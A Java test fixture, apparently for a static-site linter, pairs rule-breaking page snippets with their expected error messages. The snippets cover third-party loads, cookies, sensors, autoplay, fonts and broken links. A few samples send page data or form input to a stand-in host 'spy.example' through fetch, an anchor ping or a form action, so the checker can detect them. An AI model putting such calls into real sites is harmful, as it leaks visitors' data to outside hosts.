package dev.sobre.rule;

import static dev.sobre.rule.BrokenSites.inside;
import static dev.sobre.rule.BrokenSites.linked;
import static dev.sobre.rule.BrokenSites.page;
import static dev.sobre.rule.BrokenSites.withFiles;

import dev.sobre.course.Rule;
import dev.sobre.rule.BrokenSites.Broken;
import java.util.List;

/** Sites that break the rules on what pages load, do and lead to. */
final class BrokenLoads {

  private BrokenLoads() {}

  static List<Broken> all() {
    return List.of(
        inside(
            Rule.THIRD_PARTY_REQUEST,
            "<script src=\"https://cdn.example/x.js\"></script>",
            "error: this page loads \"https://cdn.example/x.js\" from another host"),
        inside(
            Rule.THIRD_PARTY_REQUEST,
            "<img alt=\"\" width=\"1\" height=\"1\" srcset=\"a.webp 1x, //cdn.example/b.webp 2x\">",
            "error: this page loads \"//cdn.example/b.webp\" from another host"),
        inside(
            Rule.THIRD_PARTY_REQUEST,
            "<p style=\"background: url(https://cdn.example/p.png)\">x</p>",
            "error: this page loads \"background: url(https://cdn.example/p.png)\""),
        inside(
            Rule.THIRD_PARTY_REQUEST,
            "<a ping=\"https://spy.example/\" href=\"index.html\">Home</a>",
            "error: this page loads \"https://spy.example/\" from another host"),
        page(
            Rule.THIRD_PARTY_REQUEST,
            "<title>",
            "<link rel=\"preconnect\" href=\"https://fonts.example\"><title>",
            "6:1: error: this page loads \"https://fonts.example\" from another host"),
        linked(
            Rule.THIRD_PARTY_REQUEST,
            "a.css",
            "p {}\nq { background: url('https://cdn.example/p.png') }",
            "a.css:2:17: error: this style sheet loads \"https://cdn.example/p.png\""),
        linked(
            Rule.THIRD_PARTY_REQUEST,
            "a.css",
            "@import \"//cdn.example/b.css\";",
            "a.css:1:1: error: this style sheet loads \"//cdn.example/b.css\""),
        linked(
            Rule.THIRD_PARTY_REQUEST,
            "a.svg",
            "<svg>\n<image width=\"1\" href=\"https://cdn.example/p.png\"/></svg>",
            "a.svg:2:1: error: this drawing loads \"https://cdn.example/p.png\""),
        linked(
            Rule.SCRIPT_REQUEST,
            "a.js",
            "const html = '<a href=\"https://fine.example/\">';\nfetch(\"https://spy.example/\" + html)",
            "a.js:2:8: error: this script knows the address \"https://spy.example/\""),
        linked(
            Rule.SCRIPT_REQUEST,
            "a.js",
            "navigator.sendBeacon('x')",
            "a.js:1:10: error: this script sends data (.sendBeacon)"),
        linked(
            Rule.COOKIE,
            "a.js",
            "document.cookie = 'a=1'",
            "a.js:1:9: error: this script uses cookies (.cookie)"),
        inside(
            Rule.COOKIE,
            "<script>document.cookie = 'a=1'</script>",
            "error: this script uses cookies (.cookie)"),
        inside(
            Rule.FORM_ELSEWHERE,
            "<form action=\"https://spy.example/\"><button>Send</button></form>",
            "error: this form sends what is typed to \"https://spy.example/\""),
        inside(
            Rule.FORM_ELSEWHERE,
            "<form><button formaction=\"mailto:a@b.example\">Send</button></form>",
            "error: this form sends what is typed to \"mailto:a@b.example\""),
        linked(
            Rule.DEVICE_SENSOR,
            "a.js",
            "navigator.geolocation.watchPosition(f)",
            "a.js:1:10: error: this script reads a sensor (.geolocation)"),
        linked(
            Rule.NOTIFICATION,
            "a.js",
            "new Notification('x')",
            "a.js:1:1: error: this script sends notifications"),
        linked(
            Rule.ENDLESS_SCROLL,
            "a.js",
            "new IntersectionObserver(() => fetch('b.html'))",
            "a.js:1:1: error: this script fetches content because the page is scrolled"),
        inside(Rule.AUTOPLAY, "<video autoplay muted></video>", "error: <video> starts by itself"),
        withFiles(
            Rule.MOVING_IMAGE,
            "<img src=\"a.webp\" alt=\"\" width=\"9\" height=\"9\">",
            "a.webp: error: this file is a WebP that moves",
            "a.webp",
            "RIFF____WEBPVP8X__________________ANIM"),
        linked(
            Rule.ENDLESS_ANIMATION,
            "a.css",
            "p {}\nq { animation: turn 2s infinite }",
            "a.css:2:5: error: this animation never ends"),
        withFiles(
            Rule.IMAGE_FORMAT,
            "<img src=\"a.png\" alt=\"\" width=\"9\" height=\"9\">",
            "a.png: warning: of 1 images of pixels, 0 are WebP, AVIF or JPEG XL",
            "a.png",
            "x"),
        withFiles(
            Rule.IMAGE_DIMENSIONS,
            "<img src=\"a.svg\" alt=\"\">",
            "index.html:12:1: warning: the image \"a.svg\" does not tell its width and height",
            "a.svg",
            "<svg/>"),
        withFiles(
            Rule.FONT_COUNT,
            "<link rel=\"stylesheet\" href=\"a.css\">",
            "f.woff2: error: fonts: 1 families, 5 variants, 400001 bytes",
            "a.css",
            "@font-face{font-family:F;src:url(f.woff2)}".repeat(5),
            "f.woff2",
            "x".repeat(400_001)),
        withFiles(
            Rule.FONT_FORMAT,
            "<link rel=\"stylesheet\" href=\"a.css\">",
            "f.ttf: warning: this font is not WOFF2",
            "a.css",
            "@font-face { font-family: F; src: url(f.ttf) }",
            "f.ttf",
            "x"),
        withFiles(
            Rule.DOWNLOAD_UNLABELLED,
            "<a href=\"list.pdf\">The list</a> <a href=\"list.pdf\">It (PDF, 2 kB)</a>",
            "index.html:12:1: warning: the link to \"list.pdf\" does not tell format and weight",
            "list.pdf",
            "x"),
        inside(
            Rule.LINK_BROKEN,
            "<a href=\"gone.html\">Gone</a>",
            "error: the link to \"gone.html\" leads to no file of the site"),
        inside(
            Rule.LINK_BROKEN,
            "<a href=\"index.html#gone\">Gone</a>",
            "error: the link to \"index.html#gone\" leads to a place that index.html does not"),
        withFiles(
            Rule.FILE_UNUSED,
            "",
            "media/old.svg: warning: no page and no other file leads to this one",
            "media/old.svg",
            "<svg/>"),
        linked(
            Rule.STYLE_UNUSED,
            "a.css",
            "p, #main {}\n.gone > p {}",
            "a.css:2:1: warning: no page has \".gone > p\""));
  }
}
